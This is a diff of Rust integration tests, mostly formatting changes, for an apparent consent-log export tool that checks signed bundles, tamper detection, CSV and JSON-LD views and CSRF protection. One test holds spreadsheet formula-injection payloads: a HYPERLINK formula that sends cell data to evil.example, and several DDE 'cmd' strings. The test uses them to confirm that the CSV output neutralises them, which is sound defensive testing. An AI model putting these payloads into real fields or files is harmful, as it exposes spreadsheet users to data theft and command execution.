@@ -9,7 +9,8 @@ use std::path::{Path, PathBuf};
 fn export(k: &Kelisim, extra: &[&str]) -> (tempfile::TempDir, PathBuf) {
     let dir = tempfile::tempdir().unwrap();
     let out = dir.path().join("bundle.zip");
-    let mut args = vec!["export", "--site", "webpulse", "--out", out.to_str().unwrap(), "--data", k.data.path().to_str().unwrap()];
+    let mut args =
+        vec!["export", "--site", "webpulse", "--out", out.to_str().unwrap(), "--data", k.data.path().to_str().unwrap()];
     args.extend_from_slice(extra);
     let r = cli(&args);
     assert!(r.status.success(), "{}", String::from_utf8_lossy(&r.stderr));
@@ -30,16 +31,28 @@ fn tampered(bundle: &Path, name: &str, edit: impl Fn(Vec<u8>) -> Vec<u8>) -> Pat
 
 /// A copy of the bundle without one file.
 fn without(bundle: &Path, name: &str) -> PathBuf {
-    write_beside(bundle, &format!("without-{}.zip", name.replace('/', "_")), entries(bundle).into_iter().filter(|e| e.0 != name))
+    write_beside(
+        bundle,
+        &format!("without-{}.zip", name.replace('/', "_")),
+        entries(bundle).into_iter().filter(|e| e.0 != name),
+    )
 }
 
 /// A copy of the bundle with one more file.
 fn with_extra(bundle: &Path, name: &str, content: &[u8]) -> PathBuf {
-    write_beside(bundle, &format!("with-{}.zip", name.replace('/', "_")), entries(bundle).into_iter().chain([(name.to_owned(), content.to_vec())]))
+    write_beside(
+        bundle,
+        &format!("with-{}.zip", name.replace('/', "_")),
+        entries(bundle).into_iter().chain([(name.to_owned(), content.to_vec())]),
+    )
 }
 
 fn sha256_hex(b: &[u8]) -> String {
-    let mut child = std::process::Command::new("sha256sum").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().expect("sha256sum runs");
+    let mut child = std::process::Command::new("sha256sum")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("sha256sum runs");
     child.stdin.take().unwrap().write_all(b).unwrap();
     let out = child.wait_with_output().unwrap();
     String::from_utf8(out.stdout).unwrap()[..64].to_owned()
@@ -49,7 +62,15 @@ fn sha256_hex(b: &[u8]) -> String {
 /// are: what an exporter that wrote a wrong file would produce (or anyone holding the key).
 fn resign(bundle: &Path, key: &kelisim_shared::checkpoint::LogKey) -> PathBuf {
     let all = entries(bundle);
-    let site = String::from_utf8(all.iter().find(|e| e.0 == "files.sig").unwrap().1.clone()).unwrap().lines().next().unwrap().split('/').nth(1).unwrap().to_owned();
+    let site = String::from_utf8(all.iter().find(|e| e.0 == "files.sig").unwrap().1.clone())
+        .unwrap()
+        .lines()
+        .next()
+        .unwrap()
+        .split('/')
+        .nth(1)
+        .unwrap()
+        .to_owned();
     let mut body = format!("kelisim-files/{site}/{}\n", key.key_id_hex());
     for (n, b) in all.iter().filter(|e| e.0 != "files.sig") {
         body.push_str(&format!("{}  {n}\n", sha256_hex(b)));
@@ -63,12 +84,18 @@ fn resign(bundle: &Path, key: &kelisim_shared::checkpoint::LogKey) -> PathBuf {
 
 /// The log's own signing key, from the server's data directory.
 fn log_key(k: &Kelisim) -> kelisim_shared::checkpoint::LogKey {
-    kelisim_shared::checkpoint::LogKey::from_private_text(&std::fs::read_to_string(k.data.path().join("log-signing.key")).unwrap()).unwrap()
+    kelisim_shared::checkpoint::LogKey::from_private_text(
+        &std::fs::read_to_string(k.data.path().join("log-signing.key")).unwrap(),
+    )
+    .unwrap()
 }
 
 /// The same text with one character changed: the first ASCII letter or digit from the middle on.
 fn one_char(mut b: Vec<u8>) -> Vec<u8> {
-    let i = (b.len() / 2..b.len()).chain(0..b.len() / 2).find(|i| b[*i].is_ascii_alphanumeric()).expect("a letter or digit");
+    let i = (b.len() / 2..b.len())
+        .chain(0..b.len() / 2)
+        .find(|i| b[*i].is_ascii_alphanumeric())
+        .expect("a letter or digit");
     b[i] = match b[i] {
         b'9' => b'8',
         b'z' => b'y',
@@ -78,29 +105,47 @@ fn one_char(mut b: Vec<u8>) -> Vec<u8> {
     b
 }
 
-
 #[test]
 fn export_round_trips_through_verify_and_is_audited() {
     let k = Kelisim::start();
     let (_, sent) = seed(&k, 40);
     let (_d, bundle) = export(&k, &[]);
     use std::os::unix::fs::PermissionsExt;
-    assert_eq!(std::fs::metadata(&bundle).unwrap().permissions().mode() & 0o777, 0o600, "the bundle holds personal data");
+    assert_eq!(
+        std::fs::metadata(&bundle).unwrap().permissions().mode() & 0o777,
+        0o600,
+        "the bundle holds personal data"
+    );
     let (ok, out) = verify(&bundle);
     assert!(ok, "{out}");
     assert!(out.contains("intact: site webpulse, 40 records (seq 1–40)"), "{out}");
     let files: Vec<String> = entries(&bundle).into_iter().map(|e| e.0).collect();
-    for f in ["README.md", "manifest.json", "operator.json", "events.jsonl", "leaves.bin", "log-key.pub", "events.csv", "events.dpv.jsonld"] {
+    for f in [
+        "README.md",
+        "manifest.json",
+        "operator.json",
+        "events.jsonl",
+        "leaves.bin",
+        "log-key.pub",
+        "events.csv",
+        "events.dpv.jsonld",
+    ] {
         assert!(files.iter().any(|x| x == f), "{f} missing: {files:?}");
     }
     assert!(files.iter().any(|f| f.starts_with("checkpoints/")) && files.iter().any(|f| f.starts_with("configs/")));
     // The README speaks to the auditor in all three languages.
     let readme = String::from_utf8(entries(&bundle).into_iter().find(|e| e.0 == "README.md").unwrap().1).unwrap();
     assert!(readme.contains("## Қазақша") && readme.contains("## Русский") && readme.contains("## English"));
-    let audit: String = k.db().query_row("SELECT actor || ' ' || action || ' ' || detail FROM audit_log WHERE action = 'export'", [], |r| r.get(0)).unwrap();
+    let audit: String = k
+        .db()
+        .query_row("SELECT actor || ' ' || action || ' ' || detail FROM audit_log WHERE action = 'export'", [], |r| {
+            r.get(0)
+        })
+        .unwrap();
     assert!(audit.starts_with("cli export site webpulse") && audit.contains("40 records"), "{audit}");
     // The export signed a checkpoint covering everything exported.
-    let size: i64 = k.db().query_row("SELECT MAX(tree_size) FROM checkpoints WHERE site = 'webpulse'", [], |r| r.get(0)).unwrap();
+    let size: i64 =
+        k.db().query_row("SELECT MAX(tree_size) FROM checkpoints WHERE site = 'webpulse'", [], |r| r.get(0)).unwrap();
     assert_eq!(size, 40);
     assert_eq!(sent.len(), 40);
 }
@@ -147,7 +192,8 @@ fn any_change_to_the_bundle_is_caught_and_named() {
     assert!(!ok && out.contains("checkpoints/00000001.txt") && out.contains("signature"), "{out}");
     // A changed text version.
     let cfg_name = entries(&bundle).into_iter().find(|e| e.0.starts_with("configs/")).unwrap().0;
-    let texts = tampered(&bundle, &cfg_name, |b| String::from_utf8(b).unwrap().replacen("cookie", "cookies", 1).into_bytes());
+    let texts =
+        tampered(&bundle, &cfg_name, |b| String::from_utf8(b).unwrap().replacen("cookie", "cookies", 1).into_bytes());
     let (ok, out) = verify(&texts);
     assert!(!ok && out.contains(&cfg_name), "{out}");
     // A changed leaf.
@@ -171,20 +217,27 @@ fn csv_and_dpv_hold_the_same_records() {
     assert!(csv_bytes.starts_with("\u{feff}".as_bytes()), "UTF-8 BOM so Excel reads Cyrillic");
     let mut r = csv::Reader::from_reader(&csv_bytes[3..]);
     let head: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
-    let categories: Vec<&str> = cfg["categories"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
+    let categories: Vec<&str> =
+        cfg["categories"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
     for c in &categories {
-        let title = cfg["categories"].as_array().unwrap().iter().find(|x| x["id"] == *c).unwrap()["title"]["ru"].as_str().unwrap();
+        let title = cfg["categories"].as_array().unwrap().iter().find(|x| x["id"] == *c).unwrap()["title"]["ru"]
+            .as_str()
+            .unwrap();
         assert!(head.contains(&format!("{c} ({title})")), "a column per category with its Russian title: {head:?}");
     }
     let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
     assert_eq!(rows.len(), 9);
     let col = |name: &str| head.iter().position(|h| h == name).unwrap();
     for (row, (consent, action, lang)) in rows.iter().zip(&sent) {
-        assert_eq!((&row[col("consent_id")], &row[col("action")], &row[col("language")]), (consent.as_str(), action.as_str(), lang.as_str()));
+        assert_eq!(
+            (&row[col("consent_id")], &row[col("action")], &row[col("language")]),
+            (consent.as_str(), action.as_str(), lang.as_str())
+        );
         let marketing = head.iter().position(|h| h.starts_with("marketing ")).unwrap();
         assert_eq!(&row[marketing], if action == "accept_all" { "1" } else { "0" });
     }
-    let dpv: serde_json::Value = serde_json::from_slice(&all.iter().find(|e| e.0 == "events.dpv.jsonld").unwrap().1).unwrap();
+    let dpv: serde_json::Value =
+        serde_json::from_slice(&all.iter().find(|e| e.0 == "events.dpv.jsonld").unwrap().1).unwrap();
     assert_eq!(dpv["@context"]["dpv"], "https://w3id.org/dpv#");
     let graph = dpv["@graph"].as_array().unwrap();
     assert_eq!(graph.len(), 9);
@@ -213,7 +266,17 @@ fn a_date_filtered_export_still_proves_the_whole_log() {
     assert!(ok && out.contains("0 records") && out.contains("log of 6 records"), "{out}");
     let dir = tempfile::tempdir().unwrap();
     let out = dir.path().join("x.zip");
-    let r = cli(&["export", "--site", "webpulse", "--from", "yesterday", "--out", out.to_str().unwrap(), "--data", k.data.path().to_str().unwrap()]);
+    let r = cli(&[
+        "export",
+        "--site",
+        "webpulse",
+        "--from",
+        "yesterday",
+        "--out",
+        out.to_str().unwrap(),
+        "--data",
+        k.data.path().to_str().unwrap(),
+    ]);
     assert!(!r.status.success() && String::from_utf8_lossy(&r.stderr).contains("is not a date"));
     assert!(!out.exists(), "no partial bundle is left behind");
 }
@@ -223,13 +286,19 @@ fn an_auditor_exports_and_verifies_from_the_dashboard() {
     let k = Kelisim::start();
     seed(&k, 10);
     let data = k.data.path().to_str().unwrap();
-    assert!(cli_stdin(&["admin", "add", "ivan", "--role", "auditor", "--password-stdin", "--data", data], "correct horse battery\n").status.success());
+    assert!(cli_stdin(
+        &["admin", "add", "ivan", "--role", "auditor", "--password-stdin", "--data", data],
+        "correct horse battery\n"
+    )
+    .status
+    .success());
     let login = post_form(&k.url("/admin/login"), &[], &[("username", "ivan"), ("password", "correct horse battery")]);
     let cookie = format!("kelisim_admin={}", login.set_cookie("kelisim_admin").unwrap());
     let page = get(&k.url("/admin/sites/webpulse/export"), &[("cookie", &cookie)]);
     assert_eq!(page.status, 200);
     let csrf = page.body.split("name=\"csrf\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
-    let no_csrf = post_form(&k.url("/admin/sites/webpulse/export"), &[("cookie", &cookie)], &[("from", ""), ("to", "")]);
+    let no_csrf =
+        post_form(&k.url("/admin/sites/webpulse/export"), &[("cookie", &cookie)], &[("from", ""), ("to", "")]);
     assert_eq!(no_csrf.status, 403);
     let checked = post_form(&k.url("/admin/sites/webpulse/verify"), &[("cookie", &cookie)], &[("csrf", &csrf)]);
     assert!(checked.body.contains("data-integrity=\"ok\""), "{}", checked.body);
@@ -275,7 +344,8 @@ fn every_file_of_the_bundle_is_signed_and_checked() {
     let body = key.verifier().verify_note(&note).expect("signed by the log's key");
     assert_eq!(body.lines().next().unwrap(), format!("kelisim-files/webpulse/{}", key.key_id_hex()));
     assert!(key.verifier().verify(&note).is_err(), "a file list is not a checkpoint");
-    let listed: Vec<(String, String)> = body.lines().skip(1).map(|l| l.split_once("  ").map(|(h, n)| (h.to_owned(), n.to_owned())).unwrap()).collect();
+    let listed: Vec<(String, String)> =
+        body.lines().skip(1).map(|l| l.split_once("  ").map(|(h, n)| (h.to_owned(), n.to_owned())).unwrap()).collect();
     assert_eq!(listed.iter().map(|l| l.1.as_str()).collect::<Vec<_>>(), names[..names.len() - 1]);
     for ((h, n), (_, b)) in listed.iter().zip(&all) {
         assert_eq!(*h, sha256_hex(b), "{n}");
@@ -283,7 +353,10 @@ fn every_file_of_the_bundle_is_signed_and_checked() {
     // One character changed in any file: refused, and the file named.
     for (name, _) in all.iter().filter(|e| e.0 != "files.sig").chain(all.iter().filter(|e| e.0 == "files.sig")) {
         let changed = tampered(&bundle, name, one_char);
-        assert_ne!(entries(&changed).iter().find(|e| e.0 == *name).unwrap().1, all.iter().find(|e| e.0 == *name).unwrap().1);
+        assert_ne!(
+            entries(&changed).iter().find(|e| e.0 == *name).unwrap().1,
+            all.iter().find(|e| e.0 == *name).unwrap().1
+        );
         let (ok, out) = verify(&changed);
         assert!(!ok, "{name} changed and the bundle still verifies: {out}");
         assert!(out.contains("NOT intact") && out.contains(name.as_str()), "{name} changed: {out}");
@@ -321,26 +394,42 @@ fn a_decision_changed_in_the_spreadsheet_or_the_dpv_file_is_named() {
         join(&l)
     });
     let (ok, out) = verify(&csv);
-    assert!(!ok && out.contains("events.csv line 6 (seq 5)") && out.contains("`action` is `reject_all`") && out.contains("accept_all"), "{out}");
+    assert!(
+        !ok && out.contains("events.csv line 6 (seq 5)")
+            && out.contains("`action` is `reject_all`")
+            && out.contains("accept_all"),
+        "{out}"
+    );
     let dpv = tampered(&bundle, "events.dpv.jsonld", |b| {
         let s = String::from_utf8(b).unwrap();
         let rec = s.find("\"dct:identifier\":\"webpulse:5\"").unwrap();
         let at = rec + s[rec..].find("\"kelisim:action\":\"accept_all\"").unwrap();
-        format!("{}\"kelisim:action\":\"reject_all\"{}", &s[..at], &s[at + "\"kelisim:action\":\"accept_all\"".len()..]).into_bytes()
+        format!("{}\"kelisim:action\":\"reject_all\"{}", &s[..at], &s[at + "\"kelisim:action\":\"accept_all\"".len()..])
+            .into_bytes()
     });
     let (ok, out) = verify(&dpv);
     assert!(!ok && out.contains("events.dpv.jsonld record of seq 5") && out.contains("reject_all"), "{out}");
     // Even with the list of files signed again by the log's own key (an exporter that wrote a
     // wrong view), the views are derived from the records again and the difference is named.
     let key = log_key(&k);
-    for (bad, name, place) in [(&csv, "events.csv", "events.csv line 6 (seq 5)"), (&dpv, "events.dpv.jsonld", "events.dpv.jsonld record of seq 5")] {
+    for (bad, name, place) in [
+        (&csv, "events.csv", "events.csv line 6 (seq 5)"),
+        (&dpv, "events.dpv.jsonld", "events.dpv.jsonld record of seq 5"),
+    ] {
         let (ok, out) = verify(&resign(bad, &key));
         assert!(!ok && out.contains(place) && out.contains("every file is as files.sig lists it"), "{name}: {out}");
     }
-    let op = tampered(&bundle, "operator.json", |b| String::from_utf8(b).unwrap().replacen("\"KZ\"", "\"RU\"", 1).into_bytes());
+    let op = tampered(&bundle, "operator.json", |b| {
+        String::from_utf8(b).unwrap().replacen("\"KZ\"", "\"RU\"", 1).into_bytes()
+    });
     let (ok, out) = verify(&resign(&op, &key));
     assert!(!ok && out.contains("operator.json") && out.contains("not the operator of configs/"), "{out}");
-    let readme = tampered(&bundle, "README.md", |b| String::from_utf8(b).unwrap().replacen("records / записей / жазбалар: 8", "records / записей / жазбалар: 9", 1).into_bytes());
+    let readme = tampered(&bundle, "README.md", |b| {
+        String::from_utf8(b)
+            .unwrap()
+            .replacen("records / записей / жазбалар: 8", "records / записей / жазбалар: 9", 1)
+            .into_bytes()
+    });
     let (ok, out) = verify(&resign(&readme, &key));
     assert!(!ok && out.contains("README.md"), "{out}");
     // The bundle signed again as it was still verifies: the check is of content, not of bytes of a signature.
@@ -352,8 +441,17 @@ fn a_decision_changed_in_the_spreadsheet_or_the_dpv_file_is_named() {
 fn formulas_in_visitor_fields_are_neutralised_in_the_csv() {
     let k = Kelisim::start();
     let cfg = get(&k.url("/api/v1/sites/webpulse/config"), &[]).json();
-    let required = cfg["categories"].as_array().unwrap().iter().find(|c| c["required"] == serde_json::json!(true)).unwrap()["id"].as_str().unwrap().to_owned();
-    let agents = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
+    let required =
+        cfg["categories"].as_array().unwrap().iter().find(|c| c["required"] == serde_json::json!(true)).unwrap()["id"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+    let agents = [
+        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
     for ua in agents {
         let body = serde_json::json!({"consent_id": kelisim_tests::uuid(), "event_id": kelisim_tests::uuid(), "config_version": cfg["version"], "action": "reject_all", "granted": [required], "language": "ru", "gpc": false, "page": format!("{ua}")});
         let r = kelisim_tests::post(
@@ -368,7 +466,10 @@ fn formulas_in_visitor_fields_are_neutralised_in_the_csv() {
     assert!(ok, "{out}");
     let all = entries(&bundle);
     let jsonl = &all.iter().find(|e| e.0 == "events.jsonl").unwrap().1;
-    let logged: Vec<String> = lines(jsonl).iter().map(|l| serde_json::from_slice::<serde_json::Value>(l).unwrap()["user_agent"].as_str().unwrap().to_owned()).collect();
+    let logged: Vec<String> = lines(jsonl)
+        .iter()
+        .map(|l| serde_json::from_slice::<serde_json::Value>(l).unwrap()["user_agent"].as_str().unwrap().to_owned())
+        .collect();
     assert_eq!(logged, agents, "the log keeps what the browser sent");
     let csv_bytes = &all.iter().find(|e| e.0 == "events.csv").unwrap().1;
     let mut r = csv::Reader::from_reader(&csv_bytes[3..]);
